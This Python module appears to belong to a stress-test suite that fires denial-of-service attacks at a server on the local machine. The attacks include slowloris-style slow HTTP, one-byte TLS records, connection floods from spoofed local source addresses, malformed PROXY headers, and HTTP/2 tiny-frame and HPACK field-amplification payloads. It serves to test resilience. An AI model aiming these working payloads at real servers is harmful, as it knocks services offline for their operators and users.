"""Attacks that need no TLS: those that are slow, that are many, and that talk nonsense."""

from __future__ import annotations

import itertools
import socket
import struct
from collections import deque
from collections.abc import Iterator

from campaign.hostile.attack import Attack, Target, come, crowd, flood, paced, reset

SOURCES = 100_000
NETWORK = "fd00::/16"
"""All addresses of it are this machine's."""

_IP_TRANSPARENT, _IPV6_FREEBIND = 19, 78  # ip(7); include/uapi/linux/in6.h
_HELD = 2000


def hello(name: bytes = b"site.example") -> bytes:
    """Write a ClientHello with a server name, as one message without the record around it (RFC 8446, section 4.1.2)."""
    sni = struct.pack(">HBH", len(name) + 3, 0, len(name)) + name
    extensions = struct.pack(">HH", 0, len(sni)) + sni
    body = b"\x03\x03" + bytes(32) + b"\x00" + b"\x00\x04\x13\x01\xc0\x2f" + b"\x01\x00"
    body += struct.pack(">H", len(extensions)) + extensions
    return b"\x01" + len(body).to_bytes(3, "big") + body


def records(message: bytes, size: int = 1) -> bytes:
    """Put a message into records of so many bytes each."""
    pieces = (message[at : at + size] for at in range(0, len(message), size))
    return b"".join(b"\x16\x03\x01" + struct.pack(">H", len(one)) + one for one in pieces)


def _head_line_by_line(_: Target) -> bytes:
    # One piece of the crowd is a line.
    return b"GET / HTTP/1.1\r\n" + b"X-a: bcdef\r\n".ljust(16)[:16] * 600


def _new(target: Target) -> None:
    """Make connections and reset them, half of them in the middle of a word."""

    def once() -> None:
        reset(come(target.port, said=target.chance.choice((b"", b"PI"))))

    paced(target, 2000, once)


def _sources(target: Target) -> None:
    """Let each connection come from another address."""
    four = (f"127.{n >> 16 & 127 | 1}.{n >> 8 & 255}.{n & 255}" for n in itertools.count(2))
    # A source is a network of 64 bits.
    six = (f"fd00:0:{n >> 16 & 0xFFFF:x}:{n & 0xFFFF:x}::1" for n in itertools.count(1))
    addresses: Iterator[str] = (one for pair in zip(four, six, strict=True) for one in pair)
    held: deque[socket.socket] = deque()

    def once() -> None:
        source = next(addresses)
        try:
            held.append(come(target.port, source, b"PI"))
        except OSError:  # a machine without IPv6
            held.append(come(target.port, said=b"PI"))
        if len(held) > _HELD:
            reset(held.popleft())

    paced(target, 4000, once)


def _random(target: Target) -> bytes:
    kind = target.chance.random()
    if kind < 0.3:
        return target.chance.randbytes(target.chance.randrange(1, 4096))
    if kind < 0.6:  # a header of version 1 that does not end
        return b"PROXY TCP4 " + b"1" * 4096
    if kind < 0.8:  # one of version 2 with nothing in it, and the largest length
        return b"\r\n\r\n\0\r\nQUIT\n\x21\x11\xff\xff" + bytes(4096)
    # One with extensions that are longer than they are.
    head = b"\r\n\r\n\0\r\nQUIT\n\x21\x11" + struct.pack(">H", 12 + 3 * 300)
    return head + bytes(12) + b"\x02\xff\xff" * 300


def _tiny_headers(_: Target) -> bytes:
    return b"GET / HTTP/1.1\r\n" + b"a:\r\n" * 8000


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
    )


def _tiny_frames(_: Target) -> bytes:
    """Write one request in frames with one field of one byte each (RFC 9113, sections 4.1 and 6.10; RFC 7541, section 6.1)."""
    begun = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0) + _frame(1, 0, 1, b"\x82")
    return begun + _frame(9, 0, 1, b"\x90") * 3000


def _many_fields(_: Target) -> bytes:
    """Write one request with thousands of fields of one byte: each stands for a long one that was said once."""
    long = b"\x40\x01a\x7f\xe1\x1c" + b"b" * 3808  # goes into the dynamic table, as number 62
    begun = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0) + _frame(1, 0, 1, b"\x82" + long)
    return begun + _frame(9, 0, 1, b"\xbe" * 16_000)


ATTACKS = (
    Attack("slowloris: a line of HTTP each second", "web", crowd(_head_line_by_line, 16), 2),
    Attack("one byte a second", "plain", crowd(lambda _: records(hello(), 2**14), 1), 2),
    Attack("new connections, reset at once", "plain", _new),
    Attack("a new source for each connection", "plain", _sources, 2),
    Attack("garbage for PROXY headers", "proxied", flood(_random), 5),
    Attack("ClientHellos in records of one byte", "plain", flood(lambda _: records(hello())), 5),
    Attack("thousands of tiny HTTP fields", "web", flood(_tiny_headers), 5, share=0.2),
    Attack("HTTP/2 in tiny frames", "web", flood(_tiny_frames), 5, share=0.2),
    Attack("HTTP/2 fields that stand for long ones", "web", flood(_many_fields), 5, share=0.2),
)
